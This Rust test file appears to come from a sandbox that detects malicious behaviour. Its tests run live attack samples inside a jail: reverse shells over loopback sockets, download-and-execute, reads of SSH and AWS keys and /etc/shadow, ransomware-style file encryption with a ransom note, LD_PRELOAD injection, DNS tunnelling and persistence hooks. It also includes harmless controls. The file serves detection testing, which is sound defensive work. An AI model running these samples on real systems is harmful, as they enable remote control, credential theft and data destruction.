//! Real programs, and what the whole of their acts is called; near misses, and that nothing is.

mod in_vain;
mod overwritten;

use std::io::{Read as _, Write as _};
use std::net::TcpListener;

use turnkey_expectations::expected;
use turnkey_tests::{Ran, Run};

/// The names of the behaviours that were found.
fn named(ran: &Ran) -> Vec<String> {
    let ids = ran.list("/findings").iter();
    let ids = ids.filter_map(|finding| finding["id"].as_str()?.strip_prefix("behaviour:"));
    ids.map(str::to_owned).collect()
}

#[track_caller]
fn is_named(ran: &Ran, behaviour: &str) {
    ran.expect(named(ran).iter().any(|name| name == behaviour), behaviour);
    let id = format!("behaviour:{behaviour}");
    let mut findings = ran.list("/findings").iter();
    let finding = findings.find(|finding| finding["id"] == id.as_str());
    let evidence = finding.and_then(|finding| finding["evidence"].as_array());
    ran.expect(
        evidence.is_some_and(|steps| !steps.is_empty()),
        "with the acts that show it",
    );
    ran.expect(ran.stderr.contains(behaviour), "and people are told");
}

/// Where rules only log, so that a behaviour comes to its end.
fn observed() -> Run {
    Run::new().option("--mode observe")
}

#[test]
fn a_sweep_over_secrets_is_credential_access() {
    let ran = observed().shell("cat /root/.ssh/id_rsa /root/.aws/credentials; true");
    is_named(&ran, "credential-access");
}

#[test]
fn a_burst_of_questions_is_discovery() {
    let ran = observed().shell("id; uname -a; whoami; cat /proc/version; ls /etc /proc");
    is_named(&ran, "discovery");
}

/// Somebody on the host who says this to the first who calls, and hears the answer.
fn says(what: &'static str) -> (String, std::thread::JoinHandle<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a socket of loopback works");
    let address = listener
        .local_addr()
        .expect("a socket of loopback works")
        .to_string();
    let told = std::thread::spawn(move || {
        let (mut caller, _) = listener.accept().expect("a socket of loopback works");
        caller
            .write_all(what.as_bytes())
            .expect("a socket of loopback works");
        let mut answer = String::new();
        // A jail that is killed breaks the connection.
        let _ = caller.read_to_string(&mut answer);
        answer
    });
    (address, told)
}

/// A program that may call somebody on the host; `PORT` in it is where.
fn calling(address: &str, program: &str) -> Ran {
    let (_, port) = address.rsplit_once(':').expect("an address has a port");
    let run = observed().option(&format!("--allow {address}"));
    run.python(&program.replace("PORT", port))
}

#[test]
fn a_shell_on_a_connection_is_a_reverse_shell() {
    let (address, told) = says("echo $((6 * 7))\nexit\n");
    let program = "import os, socket
s = socket.create_connection(('127.0.0.1', PORT))
for n in range(3): os.dup2(s.fileno(), n)
os.execv('/bin/sh', ['sh'])";
    let ran = calling(&address, program);
    ran.expect(
        told.join()
            .expect("a socket of loopback works")
            .contains("42"),
        "it obeyed",
    );
    is_named(&ran, "reverse-shell");
}

#[test]
fn a_shell_in_a_pipe_with_a_connection_is_a_reverse_shell() {
    let (address, told) = says("echo $((6 * 7))\nexit\n");
    let program = "import os, subprocess
call = '''import socket, sys
s = socket.create_connection(('127.0.0.1', PORT))
sys.stdout.write(s.recv(100).decode())
sys.stdout.close()
s.sendall(sys.stdin.buffer.read())
'''
os.mkfifo('/tmp/answers')
open('/tmp/call', 'w').write(call)
subprocess.run('python3 /tmp/call < /tmp/answers | sh > /tmp/answers', shell=True)";
    let ran = calling(&address, program);
    ran.expect(
        told.join()
            .expect("a socket of loopback works")
            .contains("42"),
        "it obeyed",
    );
    is_named(&ran, "reverse-shell");
}

#[test]
fn what_came_over_the_network_and_runs_is_download_and_execute() {
    let (address, told) = says("#!/bin/sh\necho it ran\n");
    let program = "import os, socket
s = socket.create_connection(('127.0.0.1', PORT))
open('fetched', 'wb').write(s.recv(100))
s.close()
os.chmod('fetched', 0o755)
os.system('./fetched')";
    let ran = calling(&address, program);
    told.join().expect("a socket of loopback works");
    ran.expect(ran.stdout.contains("it ran"), "it ran");
    is_named(&ran, "download-execute");
}

#[test]
fn a_program_in_memory_is_fileless() {
    let program = "import os
fd = os.memfd_create('x', 0)
os.write(fd, open('/bin/true', 'rb').read())
os.execve(fd, ['x'], {})";
    is_named(&observed().python(program), "fileless-execution");
}

#[test]
fn many_ports_are_a_scan() {
    let program = "import socket
for port in range(20, 40):
    s = socket.socket()
    try: s.connect(('127.0.0.1', port))
    except OSError: pass";
    is_named(&Run::new().python(program), "port-scan");
}

#[test]
fn a_secret_before_the_network_is_exfiltration() {
    let ran = observed().option("--network loopback").python(
        "import socket
open('/etc/shadow').read()
try: socket.create_connection(('127.0.0.1', 5758))
except OSError: pass",
    );
    is_named(&ran, "exfiltration");
}

/// What is there is the profile's own matter, and so is what a program keeps for itself.
#[test]
fn a_watch_of_the_system_is_file_discovery() {
    let watches = |path: &str| {
        let program = format!(
            "import ctypes\nlibc = ctypes.CDLL(None)\nprint(libc.inotify_add_watch(libc.inotify_init(), b'{path}', 2))"
        );
        Run::new().python(&program)
    };
    let log = watches("/var/log");
    log.expect(log.stdout == "-1\n", "nothing is there");
    is_named(&log, "file-discovery");
    let own = watches("/workspace");
    own.expect(own.stdout == "1\n", "the control: a watch of what is there");
    own.expect(named(&own).is_empty(), "and it is nothing");
}

#[test]
fn data_in_names_is_a_tunnel() {
    let program = "import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n in range(12):
    labels = [('%02d' % n) + 'd' * 40, 'example', 'org']
    name = b''.join(bytes([len(l)]) + l.encode() for l in labels) + b'\\0'
    try: s.sendto(struct.pack('>6H', n, 256, 1, 0, 0, 0) + name + b'\\0\\1\\0\\1', ('127.0.0.1', 53))
    except OSError: pass";
    is_named(&Run::new().python(program), "dns-tunnel");
    // By the C library, which knows of no name server.
    let program = "import socket
for n in range(12):
    try: socket.getaddrinfo('%02d' % n + 'd' * 40 + '.example.org', 443)
    except OSError: pass";
    is_named(&Run::new().python(program), "dns-tunnel");
}

/// Files of a home, of several classes.
const HOME: &[&str] = &[
    "a.docx", "b.pdf", "c.xlsx", "d.jpg", "e.png", "f.mp3", "g.zip", "h.txt", "i.csv", "j.db",
    "k.pem", "l.md",
];

fn home(run: Run) -> Run {
    HOME.iter().fold(run, |run, name| run.file(name, "mine"))
}

#[test]
fn files_of_all_kinds_lost_at_once_are_a_mass_change() {
    let program = "import os
for name in os.listdir('.'):
    data = open(name, 'rb').read()
    open(name, 'wb').write(bytes(b ^ 42 for b in data))";
    is_named(&home(Run::new()).python(program), "mass-change");
    let ran = home(Run::new()).shell("for f in *; do mv $f $f.locked; done");
    is_named(&ran, "mass-change");
    is_named(&home(Run::new()).shell("rm -rf ./*"), "mass-change");
    // A formatter: all that the files say stays.
    let indents = "import os
for name in os.listdir('.'):
    data = open(name).read()
    open(name, 'w').write('\\n\\t' + data + '\\n')";
    let ran = home(Run::new()).python(indents);
    ran.expect(named(&ran).is_empty(), "files that say what they said");
    // Nobody reads what is emptied, and a new mode empties nothing.
    let ran = home(Run::new()).shell("for f in *; do : > $f; done");
    is_named(&ran, "mass-change");
    let ran = home(Run::new()).shell("chmod 600 *");
    ran.expect(named(&ran).is_empty(), "files of one content, as they were");
}

#[test]
fn what_runs_later_is_persistence() {
    let ran = observed()
        .shell("mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; echo x >> ~/.bashrc");
    is_named(&ran, "persistence");
}

#[test]
fn privileges_are_an_escalation() {
    let program = "import os
try: os.setuid(0)
except OSError: pass";
    is_named(&observed().python(program), "privilege-escalation");
}

#[test]
fn a_way_out_is_an_escape() {
    let program = "import ctypes
ctypes.CDLL(None).mount(b'none', b'/tmp', b'tmpfs', 0, None)";
    is_named(&observed().python(program), "jail-escape");
}

#[test]
fn all_the_memory_is_exhaustion() {
    let ran = Run::new()
        .option("--memory 64M")
        .python("x = bytearray(200 << 20)\nprint(len(x))");
    is_named(&ran, "exhaustion");
}

#[test]
fn a_program_that_removes_itself_evades() {
    let ran = Run::new()
        .file("x.py", "import os\nos.unlink('x.py')")
        .run(&["python3", "x.py"]);
    is_named(&ran, "evasion");
}

expected!(
    a_program_that_waits_for_the_end_evades: at_night,
    "it waits, as the program does that it is about; the other behaviours do not"
);
#[test]
fn a_program_that_waits_for_the_end_evades() {
    // A start takes an emulated CPU some hundredths of a second.
    let ran = Run::new().option("--wall 8s").shell("sleep 60");
    ran.expect_code(124);
    is_named(&ran, "evasion");
}

#[test]
fn ending_processes_by_name_is_named() {
    let ran = Run::new().shell("pkill -9 no-such-process; true");
    is_named(&ran, "process-killing");
}

/// Starts somebody, then does as the first argument says; whether the other still runs.
const KILLS: &str = "
import os, signal, subprocess, sys
other = subprocess.Popen(['sleep', '60'])
try: eval(sys.argv[1])
except OSError as error: print(error.errno)
try: print(other.wait(0.2))
except subprocess.TimeoutExpired: print('alive')
other.kill()";

#[test]
fn a_signal_to_everybody_or_to_the_init_is_process_killing() {
    let ran = |call: &str| Run::new().run(&["python3", "-c", KILLS, call]);
    let everybody = ran("os.kill(-1, signal.SIGKILL)");
    everybody.expect(everybody.stdout == "-9\n", "the other one has died of it");
    is_named(&everybody, "process-killing");
    let init = ran("os.kill(1, signal.SIGKILL)");
    init.expect(init.stdout == "1\nalive\n", "EPERM, and all live");
    is_named(&init, "process-killing");
    // Near misses: a child by its number, and who is there at all.
    for call in ["other.kill()", "os.kill(-1, 0)", "os.kill(1, 0)"] {
        let own = ran(call);
        own.expect(own.list("/findings").is_empty(), "nothing is found");
    }
}

const LIBRARY: &str = "import os, shutil, sys
name = [m for m in open('/proc/self/maps') if 'libc.so' in m][0].split()[-1]
shutil.copy(name, 'evil.so')
os.environ['LD_PRELOAD'] = '/workspace/evil.so'
os.system('true; /bin/ls > /dev/null')";

#[test]
fn a_library_before_all_others_is_injection() {
    is_named(&Run::new().python(LIBRARY), "injection");
}

#[track_caller]
fn is_nothing(ran: &Ran) {
    ran.expect(named(ran).is_empty(), "nothing is named");
}

#[test]
fn ordinary_programs_are_nothing() {
    let program = "import json, os, socket, subprocess, tempfile
server = socket.create_server(('127.0.0.1', 0))
s = socket.create_connection(server.getsockname())
for n in range(30):
    socket.create_connection(server.getsockname()).close()
subprocess.run(['sh', '-c', 'ls > /dev/null; uname -m'], check=True)
for n in range(30):
    with tempfile.NamedTemporaryFile(suffix=['.txt', '.jpg', '.zip'][n % 3]) as f: f.write(b'x')
for n in range(40):
    open('%d.py' % n).read()
    open('%d.py' % n, 'w').write('x = 1\\n')
    os.unlink('%d.o' % n)
open('/tmp/tool', 'w').write('#!/bin/sh\\necho built\\n')
os.chmod('/tmp/tool', 0o755)
subprocess.run(['/tmp/tool'], check=True)
import pwd; pwd.getpwuid(os.getuid())";
    let sources = (0..40).fold(Run::new(), |run, number| {
        run.file(&format!("{number}.py"), "x=1\n")
            .file(&format!("{number}.o"), "object")
    });
    let ran = sources.option("--network loopback").python(program);
    ran.expect_code(0);
    is_nothing(&ran);
    ran.expect(ran.at("/verdict") == "clean", "clean");
}

#[test]
fn a_jail_dies_of_a_behaviour_where_the_profile_says_so() {
    let program = "import socket, time
for port in range(20, 40):
    s = socket.socket()
    try: s.connect(('127.0.0.1', port))
    except OSError: pass
time.sleep(10)
print('survived')";
    let lines = "[behaviour]\nport-scan = \"kill\"\n";
    let ran = Run::new().profile(lines).python(program);
    ran.expect_code(121);
    ran.expect(ran.at("/status") == "killed_by_policy", "killed");
    ran.expect(!ran.stdout.contains("survived"), "it died of it");
    is_named(&ran, "port-scan");
    // The control: where it is only logged, it lives.
    let control = Run::new()
        .profile("")
        .python(&program.replace("sleep(10)", "sleep(1)"));
    control.expect(control.stdout.contains("survived"), "without it, it lives");
    is_named(&control, "port-scan");
}

#[test]
fn an_accepted_finding_weighs_nothing_until_its_day_is_over() {
    let accept = |until: &str| {
        format!(
            "[[accept]]\nfinding = \"behaviour:process-killing\"\nwhy = \"it stops its own workers\"\nuntil = \"{until}\"\n"
        )
    };
    let script = "pkill no-such-process; true";
    let ran = Run::new().profile(&accept("2999-12-31")).shell(script);
    ran.expect(ran.at("/verdict") == "clean", "clean");
    ran.expect(ran.at("/risk_score") == 0, "no score");
    ran.expect(
        ran.at("/findings/0/accepted/why") == "it stops its own workers",
        "told as accepted",
    );
    ran.expect(
        ran.stderr.contains("accepted until 2999-12-31"),
        "to people, too",
    );
    let ran = Run::new().profile(&accept("2020-12-31")).shell(script);
    ran.expect(ran.at("/verdict") == "violated", "it is over");
    ran.expect(
        ran.at("/findings/0/accepted/expired") == true,
        "and that is said",
    );
}

/// Acts on what is the system's, each by a tool or by a call, and the path that has to be told.
const OF_THE_SYSTEM: [(&str, &str); 14] = [
    ("rm -f /usr/bin/env", "/usr/bin/env"),
    ("rmdir /usr/lib", "/usr/lib"),
    ("mv /usr/bin/env /usr/bin/vne", "/usr/bin/env"),
    ("touch mine; mv mine /usr/bin/mine", "/usr/bin/mine"),
    ("chmod 777 /usr/bin/env", "/usr/bin/env"),
    ("chown 0 /usr/bin/env", "/usr/bin/env"),
    ("touch /usr/bin/env", "/usr/bin/env"),
    ("echo x > /usr/bin/env", "/usr/bin/env"),
    ("truncate -s 0 /usr/bin/env", "/usr/bin/env"),
    ("dd if=/dev/zero of=/usr/bin/env count=1", "/usr/bin/env"),
    ("mkdir /usr/made", "/usr/made"),
    ("ln -s mine /usr/bin/mine", "/usr/bin/mine"),
    ("mkfifo /usr/made", "/usr/made"),
    (
        "python3 -c \"import os; os.setxattr('/usr/bin/env', 'user.a', b'b')\"",
        "/usr/bin/env",
    ),
];

#[test]
fn a_change_of_the_system_is_named_whoever_makes_it() {
    for (script, path) in OF_THE_SYSTEM {
        let ran = Run::new().shell(&format!("{script} 2>/dev/null; true"));
        is_named(&ran, "system-change");
        let findings = ran.list("/findings").iter();
        let mut steps = findings.filter_map(|finding| finding["evidence"][0]["what"].as_str());
        ran.expect(
            steps.any(|step| step.starts_with("tried to ") && step.ends_with(path)),
            path,
        );
    }
}

#[test]
fn what_is_done_to_its_own_files_is_no_change_of_the_system() {
    let own = "touch a; chmod 600 a; mv a b; ln -s b c; mkdir d; rmdir d; truncate -s 9 b; rm b c; \
               mktemp >/dev/null; touch -d yesterday /tmp/x; rm /tmp/x; id -un >/dev/null";
    let ran = Run::new().shell(own);
    ran.expect_code(0);
    ran.expect(named(&ran).is_empty(), "nothing is named");
    ran.expect(ran.at("/risk_score") == 0, "and nothing weighs");
}

/// Each as its users run it, under the profile that is shipped for it.
#[test]
fn what_tools_and_libraries_look_at_is_no_finding() {
    let zones = "import zoneinfo; print(len(zoneinfo.available_timezones()) > 9)";
    for (profile, command, said) in [
        (
            "shell",
            &["perl", "-e", "print((getpwuid($<))[0])"][..],
            "jail",
        ),
        ("shell", &["df", "-h", "/tmp"], "/tmp"),
        ("sealed", &["python3", "-c", zones], "True"),
    ] {
        let ran = Run::new()
            .option(&format!("--profile {profile}"))
            .run(command);
        ran.expect_code(0);
        ran.expect(ran.stdout.contains(said), "it works");
        ran.expect(ran.list("/findings").is_empty(), "and nothing is found");
    }
}

/// In three languages; the acts are seen by real processes, whose lives say whether a listing was used.
#[test]
fn looking_around_is_named_in_every_language() {
    let files = [
        (
            "python",
            &["python3", "-c", "import os; os.listdir('/etc/ssl')"][..],
        ),
        ("shell", &["bash", "-c", "for one in /etc/*; do :; done"]),
        (
            "shell",
            &["perl", "-e", "opendir(D, '/sys') or die; readdir D"],
        ),
        ("shell", &["sh", "-c", "ls /opt/app; true"]),
    ];
    let accounts = [
        (
            "python",
            &["python3", "-c", "open('/etc/passwd').read()"][..],
        ),
        (
            "shell",
            &["bash", "-c", "while read line; do :; done < /etc/group"],
        ),
        ("shell", &["awk", "{ print }", "/etc/passwd"]),
    ];
    let named_by = |name: &str, all: &[(&str, &[&str])]| {
        for (profile, command) in all {
            is_named(
                &Run::new()
                    .option(&format!("--profile {profile}"))
                    .run(command),
                name,
            );
        }
    };
    named_by("file-discovery", &files);
    named_by("account-discovery", &accounts);
}

#[test]
fn a_grave_course_of_acts_is_told_before_what_was_merely_noticed() {
    let program = "import os\nfor act in (lambda: open('/etc/motd').close(), lambda: os.unlink('/usr/bin/env')):\n    try: act()\n    except OSError: pass";
    let ran = Run::new().python(program);
    let at = |words: &str| ran.stderr.find(words);
    let (less, named) = (at("(low, T1082)"), at("turnkey: system-change "));
    ran.expect(less.is_some() && named.is_some(), "both are told");
    ran.expect(named < less, "the grave one first");
}

/// Real programs and calls: what they are for is said though none of it can be done here, or is there.
#[test]
fn what_has_one_purpose_is_named_by_it() {
    let sniffs = "import socket\ntry: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300)\nexcept OSError: pass";
    let wants =
        "import subprocess\ntry: subprocess.run(['nft', 'flush', 'ruleset'])\nexcept OSError: pass";
    let holds = "import os\nfor name in ('a.txt', 'b.pdf', 'c.jpg'):\n    open(name, 'w').write('x')\n    \
                 text = open(name).read()\n    open(name + '.locked', 'w').write(text[::-1])\n    os.remove(name)\n\
                 open('HOW_TO_DECRYPT', 'w')";
    let lends = "import os, shutil\nshutil.copy('/bin/sh', 'x')\ntry: os.chmod('x', 0o4755)\nexcept OSError: pass";
    for (program, name) in [
        (sniffs, "capture"),
        (wants, "defense-impairment"),
        (holds, "mass-change"),
        (lends, "persistence"),
    ] {
        is_named(&Run::new().python(program), name);
    }
    is_named(
        &Run::new().run(&["sh", "-c", "date -s 2001-01-01 || true"]),
        "system-change",
    );
}

#[test]
fn what_a_person_typed_and_a_planted_name_are_told() {
    let run = Run::new().file(".bash_history", "ssh prod\n");
    is_named(&run.shell("rm .bash_history"), "defense-impairment");
    let plants = "mkdir -p ~/.local/bin; printf '#!/bin/sh\n' > ~/.local/bin/sudo";
    is_named(&Run::new().shell(plants), "injection");
}

#[test]
fn a_course_of_acts_that_was_meant_is_allowed_by_the_line_that_is_told() {
    let list = ["ls", "/"];
    let ran = Run::new().run(&list);
    let line = "[behaviour] file-discovery = \"off\"";
    let told = format!("  to allow    in a profile: {line}\n");
    ran.expect(ran.stderr.contains(&told), "it is told");
    let meant = Run::new().profile(&line.replacen(' ', "\n", 1)).run(&list);
    meant.expect(meant.report["verdict"] == "clean", "it is allowed");
}
